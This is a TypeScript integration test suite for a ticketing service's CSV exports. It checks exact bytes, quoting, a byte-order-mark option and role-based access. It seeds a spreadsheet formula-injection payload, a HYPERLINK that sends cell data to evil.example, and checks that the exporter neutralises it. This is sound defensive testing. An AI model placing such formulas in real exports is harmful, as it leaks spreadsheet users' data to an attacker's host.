import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestCloud, type TestCloud } from '../helpers/cloud.ts';
import { type Account, registerAccount } from '../helpers/factories.ts';
import { refund, type ShopSetup, sell, shop } from './analytics-support.ts';
import { expectErrorBody, rawRequest, scanRow } from './support.ts';

let cloud: TestCloud;
let s: ShopSetup;
let ann: Account;
let bob: Account;
let staff: Account;
let stranger: ShopSetup;
let eventName: string;
let orderA: { id: string; status: string };
let orderB: { id: string; status: string };
let refundB: { id: string; status: string; provider: string };
let annTickets: { id: string }[];
let bobTicket: string;

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

async function csv(path: string, token: string) {
  const res = await fetch(`${cloud.url}/api/v1${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

const lines = (...rows: string[]) => rows.map((r) => `${r}\r\n`).join('');

// PGlite renders the CSV in this process, a Postgres server with its own COPY: the same bytes either way.
describe.each(['pglite', 'postgres'] as const)('%s', (engine) => {
  /**
   * Two buyers (one of them named like a CSV trap), a promo code, a refund, attendee names
   * that look like formulas, and two uploaded scans; another organization sells too.
   */
  beforeAll(async () => {
    cloud = await startTestCloud({ engine });
    s = await shop(cloud.api);
    ann = await registerAccount(cloud.api, 'Ann, "the" Buyer');
    bob = await registerAccount(cloud.api, '+Bob');
    staff = await registerAccount(cloud.api, 'Door');
    await s.promoter.api.post(`/organizations/${s.orgId}/members`, {
      email: staff.user.email,
      role: 'STAFF',
    });
    eventName = (await s.promoter.api.get(`/events/${s.eventId}`)).name;
    const a = await sell(
      cloud,
      s,
      ann,
      '2028-03-01T10:00:00.000Z',
      [{ tierId: s.ga, quantity: 2 }],
      'TENOFF',
    );
    const b = await sell(cloud, s, bob, '2028-03-02T11:30:00.000Z', [{ tierId: s.vip, quantity: 1 }]);
    refundB = await refund(cloud, s, b, '2028-03-03T09:15:00.000Z');
    orderA = await s.promoter.api.get(`/orders/${a}`);
    orderB = await s.promoter.api.get(`/orders/${b}`);
    annTickets = ((await ann.api.get('/me/tickets')).data as { id: string }[]).sort((x, y) =>
      x.id < y.id ? -1 : 1,
    );
    bobTicket = (await bob.api.get('/me/tickets')).data[0].id;
    // Accepted as data by the API: neutralised only in the export.
    const named = await ann.api.request('PATCH', `/tickets/${annTickets[0]!.id}`, {
      attendeeName: FORMULA,
      attendeeEmail: 'zoe@example.com',
    });
    expect(named.attendeeName).toBe(FORMULA);
    await ann.api.request('PATCH', `/tickets/${annTickets[1]!.id}`, { attendeeName: 'Zoë\nZürich' });
    const res = await rawRequest(cloud, 'POST', '/sync/scans', {
      token: s.node.token,
      json: {
        nodeId: s.node.id,
        scans: [
          scanRow(1, {
            eventId: s.eventId,
            ticketId: annTickets[0]!.id,
            at: '2028-06-01T17:00:10.000Z',
            hlc: '1843318810000-00000-a',
          }),
          scanRow(2, {
            eventId: s.eventId,
            ticketId: bobTicket,
            decision: 'reject',
            reason: 'revoked',
            at: '2028-06-01T17:01:00.000Z',
            hlc: '1843318860000-00000-a',
            laneId: 'vip',
            note: '@staff: sent away',
          }),
        ],
      },
    });
    expect(res.status, res.text).toBe(200);
    stranger = await shop(cloud.api);
    await sell(cloud, stranger, bob, '2028-03-02T12:00:00.000Z', [{ tierId: stranger.ga, quantity: 1 }]);
  });
  afterAll(async () => {
    await cloud?.close();
  });

  describe('CSV exports: exact bytes', () => {
    it('orders: RFC 4180 quoting, formula-looking names neutralised, a download header', async () => {
      const res = await csv(`/events/${s.eventId}/exports/orders.csv`, s.promoter.accessToken);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="orders-${s.eventId}.csv"`);
      expect(res.bytes.toString('utf8')).toBe(
        lines(
          'order_id,event_id,event_name,status,created_at,confirmed_at,buyer_name,buyer_email,currency,tickets,subtotal_cents,discount_cents,total_cents,refunded_cents,promo_code',
          `${orderA.id},${s.eventId},${eventName},${orderA.status},2028-03-01T10:00:00.000Z,2028-03-01T10:00:00.000Z,"Ann, ""the"" Buyer",${ann.user.email},EUR,2,5000,500,4500,0,TENOFF`,
          `${orderB.id},${s.eventId},${eventName},${orderB.status},2028-03-02T11:30:00.000Z,2028-03-02T11:30:00.000Z,'+Bob,${bob.user.email},EUR,1,4000,0,4000,4000,`,
        ),
      );
    });

    it('attendees with their check-in state; a name that is a formula gets an apostrophe, UTF-8 and newlines survive', async () => {
      const res = await csv(`/events/${s.eventId}/exports/attendees.csv`, s.promoter.accessToken);
      expect(res.status).toBe(200);
      expect(res.bytes.toString('utf8')).toBe(
        lines(
          'ticket_id,order_id,tier,status,attendee_name,attendee_email,holder_name,holder_email,checked_in_at,last_scan_at,inside',
          `${annTickets[0]!.id},${orderA.id},GA,VALID,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",zoe@example.com,"Ann, ""the"" Buyer",${ann.user.email},2028-06-01T17:00:10.000Z,2028-06-01T17:00:10.000Z,true`,
          `${annTickets[1]!.id},${orderA.id},GA,VALID,"Zoë\nZürich",,"Ann, ""the"" Buyer",${ann.user.email},,,false`,
          `${bobTicket},${orderB.id},VIP,REFUNDED,,,'+Bob,${bob.user.email},,,false`,
        ),
      );
      // The bytes are UTF-8: ë is two bytes.
      expect(res.bytes.includes(Buffer.from([0xc3, 0xab]))).toBe(true);
    });

    it('scans in HLC order, a note that starts with @ neutralised', async () => {
      const res = await csv(`/events/${s.eventId}/exports/scans.csv`, s.promoter.accessToken);
      expect(res.bytes.toString('utf8')).toBe(
        lines(
          'at,hlc,node_id,node_name,seq,lane_id,direction,kind,decision,reason,ticket_id,note',
          `2028-06-01T17:00:10.000Z,1843318810000-00000-a,${s.node.id},North gate,1,north-1,entry,scan,admit,ok,${annTickets[0]!.id},`,
          `2028-06-01T17:01:00.000Z,1843318860000-00000-a,${s.node.id},North gate,2,vip,entry,scan,reject,revoked,${bobTicket},'@staff: sent away`,
        ),
      );
    });

    it('refunds of the event and of the organization', async () => {
      const expected = lines(
        'refund_id,order_id,event_id,event_name,created_at,status,provider,currency,amount_cents,tickets,reason',
        `${refundB.id},${orderB.id},${s.eventId},${eventName},2028-03-03T09:15:00.000Z,${refundB.status},${refundB.provider},EUR,4000,1,`,
      );
      const event = await csv(`/events/${s.eventId}/exports/refunds.csv`, s.promoter.accessToken);
      expect(event.bytes.toString('utf8')).toBe(expected);
      const org = await csv(`/organizations/${s.orgId}/exports/refunds.csv`, s.promoter.accessToken);
      expect(org.bytes.toString('utf8')).toBe(expected);
      expect(org.headers.get('content-disposition')).toBe(`attachment; filename="refunds-${s.orgId}.csv"`);
    });

    it('the organization’s orders hold its events only', async () => {
      const event = await csv(`/events/${s.eventId}/exports/orders.csv`, s.promoter.accessToken);
      const org = await csv(`/organizations/${s.orgId}/exports/orders.csv`, s.promoter.accessToken);
      expect(org.bytes.equals(event.bytes)).toBe(true);
    });

    it('?bom=true starts the file with the UTF-8 byte order mark, the rest unchanged', async () => {
      const plain = await csv(`/events/${s.eventId}/exports/attendees.csv`, s.promoter.accessToken);
      const bom = await csv(`/events/${s.eventId}/exports/attendees.csv?bom=true`, s.promoter.accessToken);
      expect([...bom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bom.bytes.subarray(3).equals(plain.bytes)).toBe(true);
      expect(plain.bytes[0]).toBe('t'.charCodeAt(0));
    });
  });

  describe('CSV exports: who may take them', () => {
    it('STAFF takes the scans, not money or personal data', async () => {
      expect((await csv(`/events/${s.eventId}/exports/scans.csv`, staff.accessToken)).status).toBe(200);
      for (const kind of ['orders', 'attendees', 'refunds']) {
        const res = await rawRequest(cloud, 'GET', `/events/${s.eventId}/exports/${kind}.csv`, {
          token: staff.accessToken,
        });
        expectErrorBody(res, 403, 'FORBIDDEN');
      }
      for (const kind of ['orders', 'refunds']) {
        const res = await rawRequest(cloud, 'GET', `/organizations/${s.orgId}/exports/${kind}.csv`, {
          token: staff.accessToken,
        });
        expectErrorBody(res, 403, 'FORBIDDEN');
      }
    });

    it('another tenant’s event or organization is a 404, whatever the export', async () => {
      for (const kind of ['orders', 'attendees', 'scans', 'refunds']) {
        const res = await rawRequest(cloud, 'GET', `/events/${s.eventId}/exports/${kind}.csv`, {
          token: stranger.promoter.accessToken,
        });
        expectErrorBody(res, 404, 'NOT_FOUND');
      }
      const org = await rawRequest(cloud, 'GET', `/organizations/${s.orgId}/exports/orders.csv`, {
        token: stranger.promoter.accessToken,
      });
      expectErrorBody(org, 404, 'NOT_FOUND');
      // A buyer of the event is no member either.
      const buyer = await rawRequest(cloud, 'GET', `/events/${s.eventId}/exports/attendees.csv`, {
        token: ann.accessToken,
      });
      expectErrorBody(buyer, 404, 'NOT_FOUND');
    });

    it('no sign-in is a 401; a bad bom value a 400 naming it', async () => {
      const anonymous = await rawRequest(cloud, 'GET', `/events/${s.eventId}/exports/orders.csv`);
      expectErrorBody(anonymous, 401, 'UNAUTHORIZED');
      const bad = await rawRequest(cloud, 'GET', `/events/${s.eventId}/exports/orders.csv?bom=yes`, {
        token: s.promoter.accessToken,
      });
      expect(expectErrorBody(bad, 400, 'BAD_REQUEST').message).toMatch(/bom/);
    });
  });
});
